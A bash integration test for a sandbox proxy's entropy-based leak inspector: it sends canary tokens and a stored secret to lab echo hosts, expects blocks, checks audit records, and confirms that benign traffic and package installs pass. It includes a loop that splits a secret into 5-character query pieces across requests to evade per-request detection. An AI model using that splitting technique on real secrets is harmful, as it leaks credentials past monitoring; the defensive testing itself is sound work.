#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# The entropy side of the inspector chain in cage-proxy, in a cage of its own ("dlpx") that
# opts into the entropy inspector with min_url_bytes 32: escapes.md row 71 (an unknown
# 40-character token in a form body → DENY-403, dlp.entropy rule=form_value loc=body), the
# benign controls of row 71 and of issue 5's acceptance (UUIDs, sha256 hex, base64 PNG
# thumbnails, ordinary JSON API calls, an npm and a pip install from a registry the lab
# serves) passing untouched with no inspector record, row 67 (a token split into 5-character
# query values, one request each: flagged dlp.split and forwarded; a known secret split the
# same way: 403 from the piece that completes a 12-byte fragment), the known-value exemption
# in strict mode (the literal value in Authorization to its bound host), and a SIGHUP reload
# (a new chain) under concurrent requests.
. "$(dirname "$0")/../lib.sh"
. "$TOP/tests/lab_cage.bash"

CAGE=dlpx
LAB_CAGE_RESOLVE=api.allowed.test
YAML=$(mktemp /tmp/dlpx-cage.XXXXXX.yaml)
lab_cage_tmp "$YAML"
PKG=/run/lab/pkg
CANARY_GH=ghp_R3dT3amC4nary00000000000000000000000
# A stored secret bound to api.allowed.test in strict mode (no inject_headers).
REAL_SPLIT="rs$(head -c 300 /dev/urandom | tr -dc 'A-Za-z0-9' | head -c 28)"

# The package fixtures sit in the lab's web root, which outlives this test when the lab was up.
lab_cage_cleanup() { rm -rf "$PKG"; }

{ lab_cage_yaml 243; cat <<YAML; } > "$YAML"
inspectors:
  - name: entropy
    config: { min_url_bytes: 32 }
secrets:
  SPLIT_TOKEN: { inject_to: [api.allowed.test] }
YAML

lab_cage_join

# A tiny npm package and a tiny wheel, served by the lab web server under
# https://api.allowed.test/pkg/ (scripts/lab.d/web.py).
python3 - "$PKG" <<'PY' || not_ok "package fixtures"
import base64, hashlib, io, json, os, sys, tarfile, zipfile
root = sys.argv[1]
base = 'https://api.allowed.test/pkg'
os.makedirs(f'{root}/npm/cagetest-pkg/-', exist_ok=True)
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode='w:gz') as t:
    for name, data in (('package/package.json', json.dumps({'name': 'cagetest-pkg', 'version': '1.0.0', 'main': 'index.js'})),
                       ('package/index.js', "module.exports = 'cagetest ok';\n")):
        b = data.encode(); ti = tarfile.TarInfo(name); ti.size = len(b); ti.mode = 0o644
        t.addfile(ti, io.BytesIO(b))
tgz = buf.getvalue()
open(f'{root}/npm/cagetest-pkg/-/cagetest-pkg-1.0.0.tgz', 'wb').write(tgz)
integrity = 'sha512-' + base64.b64encode(hashlib.sha512(tgz).digest()).decode()
doc = {'name': 'cagetest-pkg', 'dist-tags': {'latest': '1.0.0'},
       'versions': {'1.0.0': {'name': 'cagetest-pkg', 'version': '1.0.0', 'main': 'index.js',
                              'dist': {'tarball': f'{base}/npm/cagetest-pkg/-/cagetest-pkg-1.0.0.tgz',
                                       'shasum': hashlib.sha1(tgz).hexdigest(), 'integrity': integrity}}}}
open(f'{root}/npm/cagetest-pkg/index.json', 'w').write(json.dumps(doc))
os.makedirs(f'{root}/pypi/simple/cagetest-pkg', exist_ok=True)
os.makedirs(f'{root}/pypi/files', exist_ok=True)
whl = 'cagetest_pkg-1.0.0-py3-none-any.whl'
files = {'cagetest_pkg/__init__.py': "MSG = 'cagetest ok'\n",
         'cagetest_pkg-1.0.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: cagetest-pkg\nVersion: 1.0.0\n',
         'cagetest_pkg-1.0.0.dist-info/WHEEL': 'Wheel-Version: 1.0\nGenerator: cagectl-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n'}
record = ''
for n, d in files.items():
    h = base64.urlsafe_b64encode(hashlib.sha256(d.encode()).digest()).rstrip(b'=').decode()
    record += f'{n},sha256={h},{len(d.encode())}\n'
record += 'cagetest_pkg-1.0.0.dist-info/RECORD,,\n'
files['cagetest_pkg-1.0.0.dist-info/RECORD'] = record
with zipfile.ZipFile(f'{root}/pypi/files/{whl}', 'w') as z:
    for n, d in files.items():
        z.writestr(n, d)
sha = hashlib.sha256(open(f'{root}/pypi/files/{whl}', 'rb').read()).hexdigest()
open(f'{root}/pypi/simple/cagetest-pkg/index.html', 'w').write(
    f'<!DOCTYPE html><html><body><a href="../../files/{whl}#sha256={sha}">{whl}</a></body></html>\n')
PY
chmod -R a+rX "$PKG"

printf %s "$REAL_SPLIT" | lab_cage_secret SPLIT_TOKEN
lab_cage_up "$YAML" "entropy opted in"
like "cage-proxy runs under the monitor" "$PROXY_PID" '^[0-9]+$'

audit_mark() { wc -l < "$AUDIT" 2>/dev/null || echo 0; }
audit_has() { sleep 0.3; tail -n +"$(( $1 + 1 ))" "$AUDIT" | grep "\"event\":\"$2\"" | grep -q -- "${3:-}"; }
# Records of the chain (or any refusal) since mark $1: benign traffic must leave none.
insp_records() {
	local recs
	sleep 0.3
	# (getent's UDP connect to port 0, its address-sorting probe, is the kernel's business.)
	recs=$(tail -n +"$(( $1 + 1 ))" "$AUDIT" | grep -v '"layer":"kernel"' |
	       grep -E '"event":"(dlp|limit|decode|inspect)\.|"decision":"(flagged|blocked)"')
	[ -n "$recs" ] && diag "$(cut -c1-300 <<<"$recs")" >&2
	grep -c . <<<"$recs"
}
N() { echo "rt-$1-$(od -An -N4 -tx4 /dev/urandom | tr -d ' ')"; }
E=echo.allowed.test

# Row 71: 40 random base62 characters, new every run.
CANARY_RAND=$(head -c 300 /dev/urandom | tr -dc 'A-Za-z0-9' | head -c 40)
is "row 71: CANARY_RAND is 40 base62 characters" "${#CANARY_RAND}" 40
n=$(N 71); m=$(audit_mark)
r=$(cc $E "https://$E/$n -d 't=$CANARY_RAND'")
is "row 71: unknown high-entropy token in a form body → 403" "$(status_of "$r")" 403
check "row 71: dlp.entropy rule=form_value loc=body audited" audit_has "$m" dlp.entropy 'rule=form_value loc=body'
refute "row 71: the echo host never saw the request" grep -q -- "$n" /run/lab/sentinel.log
# The same token in the query (min_url_bytes 32 applies to URL values too).
n=$(N 71); m=$(audit_mark)
r=$(cc $E "\"https://$E/$n?t=$CANARY_RAND\"")
is "row 71: the token in a query value → 403" "$(status_of "$r")" 403
check "row 71: dlp.entropy loc=query audited" audit_has "$m" dlp.entropy 'loc=query'

# Benign controls: forwarded untouched, and not one inspector record.
m=$(audit_mark)
r=$(cc $E "https://$E/ok -d 't=3f2b8c1e-9a4d-4e1f-8b7a-2c5d6e7f8a9b'")
is "benign: UUID form value → 200" "$(status_of "$r")" 200
r=$(cc $E "https://$E/ok -d 't=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'")
is "benign: sha256 hex form value → 200" "$(status_of "$r")" 200
like "benign: the echo host got the form as sent" "$r" 't=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
# A real PNG opening (signature, IHDR) and random pixel bytes, base64 in a form and in JSON.
PNG_B64=$( { printf '\211PNG\r\n\032\n\0\0\0\rIHDR\0\0\0\040\0\0\0\040\010\006\0\0\0'; head -c 900 /dev/urandom; } | base64 -w0)
r=$(in_cage "getent ahosts $E >/dev/null; printf 'thumb=data%%3Aimage%%2Fpng%%3Bbase64%%2C%s' \"\$(printf %s '$PNG_B64' | sed 's/+/%2B/g; s#/#%2F#g; s/=/%3D/g')\" | $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 --data-binary @- https://$E/thumb")
is "benign: base64 PNG thumbnail as a form value → 200" "$r" 200
r=$(in_cage "getent ahosts $E >/dev/null; printf '{\"name\":\"t.png\",\"thumb\":\"data:image/png;base64,%s\"}' '$PNG_B64' | $NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 -H 'content-type: application/json' --data-binary @- https://$E/thumb")
is "benign: base64 PNG thumbnail in JSON → 200" "$r" 200
r=$(cc api.allowed.test "-X POST https://api.allowed.test/store -H 'content-type: application/json' -d '{\"id\":\"3f2b8c1e-9a4d-4e1f-8b7a-2c5d6e7f8a9b\",\"sha256\":\"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\",\"title\":\"Fix the flaky test in CI\",\"labels\":[\"bug\",\"ci\"]}'")
is "benign: ordinary JSON API call → 201" "$(status_of "$r")" 201
r=$(cc api.allowed.test "'https://api.allowed.test/search?q=vectorscan+streaming&page=2&per_page=50'")
is "benign: ordinary GET with a query → 200" "$(status_of "$r")" 200
is "benign controls: no inspector record" "$(insp_records "$m")" 0

# Row 67: the 40-character token in 5-character pieces, one request each (the row's loop).
# No single request is blockable: each is forwarded, and the host's cumulative entropy flags.
n=$(N 67); m=$(audit_mark)
r=$(in_cage "getent ahosts $E >/dev/null; for p in \$(printf %s '$CANARY_RAND' | fold -w5); do $NOPX curl -s -o /dev/null -w '%{http_code} ' --cacert $CA -m 20 --resolve $E:443:$A4 \"https://$E/$n?p=\$p\"; done")
is "row 67: all 8 pieces forwarded" "$r" "200 200 200 200 200 200 200 200 "
check "row 67: dlp.split rule=cumulative_entropy loc=query audited" audit_has "$m" dlp.split \
	'rule=cumulative_entropy loc=query sev=warning'
check "row 67: the record is a flag" audit_has "$m" dlp.split '"decision":"flagged"'
is "row 67: flagged once for the 40 bytes" "$(tail -n +$((m + 1)) "$AUDIT" | grep -c '"event":"dlp.split"')" 1
# Row 67 with a known secret: the piece that completes 12 bytes of it, and every later one, 403.
n=$(N 67); m=$(audit_mark)
r=$(in_cage "getent ahosts $E >/dev/null; for p in \$(printf %s '$REAL_SPLIT' | fold -w5); do $NOPX curl -s -o /dev/null -w '%{http_code} ' --cacert $CA -m 20 --resolve $E:443:$A4 \"https://$E/$n?k=\$p\"; done")
is "row 67 (known secret): pieces 3-6 refused" "$r" "200 200 403 403 403 403 "
check "row 67 (known secret): dlp.hit known_value dec=split audited" audit_has "$m" dlp.hit \
	'rule=known_value:SPLIT_TOKEN loc=query dec=split sev=critical'
# Benign: ordinary short query values, many requests to one host: no split record.
m=$(audit_mark)
r=$(in_cage "getent ahosts api.allowed.test >/dev/null; for q in 'q=vectorscan&page=2&per_page=50' 'state=open&sort=created&direction=desc' 'lang=en-US&tz=Europe%2FBerlin' 'status=shipped&limit=20&offset=40' 'format=json&v=20261127' 'q=linux+cgroup&page=3' 'fields=name,version&include=deps' '_=1764226010123'; do for path in search repos/cagectl/cagectl/issues packages/npm/left-pad; do $NOPX curl -s -o /dev/null -w '%{http_code} ' --cacert $CA -m 20 --resolve api.allowed.test:443:$A4 \"https://api.allowed.test/\$path?\$q\"; done; done")
is "benign: 24 requests with short query values answered 200" "$(tr ' ' '\n' <<<"$r" | grep -c '^200$')" 24
is "benign short query values: no inspector record" "$(insp_records "$m")" 0
# Strict mode: the literal value in Authorization to the host it is bound to is where the
# engine would have put it; the chain lets it pass. Elsewhere it stays a critical dlp.hit.
m=$(audit_mark)
r=$(cc api.allowed.test "https://api.allowed.test/bound-auth -H 'Authorization: Bearer $REAL_SPLIT'")
is "strict mode: the real value in Authorization to its bound host → 200" "$(status_of "$r")" 200
r=$(cc api.allowed.test "https://api.allowed.test/whoami -H 'X-Debug: $REAL_SPLIT'")
is "strict mode: the real value in X-Debug to its bound host → 403" "$(status_of "$r")" 403
r=$(cc $E "https://$E/whoami -H 'Authorization: Bearer $REAL_SPLIT'")
is "strict mode: the real value in Authorization to another host → 403" "$(status_of "$r")" 403
check "strict mode: dlp.hit for the unbound header" audit_has "$m" dlp.hit 'rule=known_value:SPLIT_TOKEN loc=header:x-debug'

# npm and pip installs through the proxy (the explicit port, as the cage's environment sets).
m=$(audit_mark)
r=$(in_cage "rm -rf /tmp/npmt && mkdir -p /tmp/npmt && cd /tmp/npmt && npm install --registry https://api.allowed.test/pkg/npm/ --cache /tmp/npmt/.cache --no-audit --no-fund --no-update-notifier --loglevel=error cagetest-pkg >/tmp/npmt/log 2>&1; echo rc=\$?; node -e \"console.log(require('cagetest-pkg'))\" 2>&1; tail -3 /tmp/npmt/log")
like "npm install through the lab registry" "$r" 'rc=0'
like "npm: the installed package loads" "$r" 'cagetest ok'
r=$(in_cage "rm -rf /tmp/pipt && python3 -m pip install --disable-pip-version-check --no-cache-dir --no-input --break-system-packages --index-url https://api.allowed.test/pkg/pypi/simple/ --target /tmp/pipt cagetest-pkg >/tmp/pipt.log 2>&1; echo rc=\$?; PYTHONPATH=/tmp/pipt python3 -c 'import cagetest_pkg; print(cagetest_pkg.MSG)' 2>&1; tail -3 /tmp/pipt.log")
like "pip install through the lab index" "$r" 'rc=0'
like "pip: the installed package imports" "$r" 'cagetest ok'
check "npm and pip requests reached the lab" grep -q 'cagetest_pkg-1.0.0-py3-none-any.whl' /run/lab/sentinel.log
is "npm and pip installs: no inspector record" "$(insp_records "$m")" 0

# SIGHUP builds a new chain while requests run on the old one; nothing fails, nothing leaks.
m=$(audit_mark)
in_cage "getent ahosts $E >/dev/null; i=0; ok=0; while [ \$i -lt 40 ]; do c=\$($NOPX curl -s -o /dev/null -w '%{http_code}' --cacert $CA -m 20 --resolve $E:443:$A4 https://$E/reload -d 'x=1'); [ \"\$c\" = 200 ] && ok=\$((ok+1)); i=\$((i+1)); done; echo \$ok" > "$BUILD/dlpx-reload.ok" &
load_pid=$!
for _ in 1 2 3 4 5 6; do sleep 0.3; kill -HUP "$PROXY_PID" 2>/dev/null; done
wait "$load_pid"
is "reload: 40 of 40 requests during six SIGHUPs answered 200" "$(cat "$BUILD/dlpx-reload.ok")" 40
rm -f "$BUILD/dlpx-reload.ok"
check "reload: audited" audit_has "$m" proxy.reload secrets_reloaded
check "cage-proxy alive after the reloads" kill -0 "$PROXY_PID"
r=$(cc $E "https://$E/after -d 't=$CANARY_RAND'")
is "reload: the new chain still blocks row 71" "$(status_of "$r")" 403
r=$(cc $E "https://$E/after -H 'X-Debug: $CANARY_GH'")
is "reload: the new chain still blocks a secret pattern" "$(status_of "$r")" 403

leaks=$(tail -n +$((SENT0 + 1)) /run/lab/sentinel.log | grep -F -e "$CANARY_RAND" -e "$CANARY_GH" -e "$REAL_SPLIT" |
	grep -vc '/bound-auth')
is "sentinel: no canary reached the fake internet but the bound Authorization (row 67 sends pieces)" "$leaks" 0
is "audit log: no canary in any record" "$(grep -cF -e "$CANARY_RAND" -e "$CANARY_GH" -e "$REAL_SPLIT" "$AUDIT")" 0
done_testing
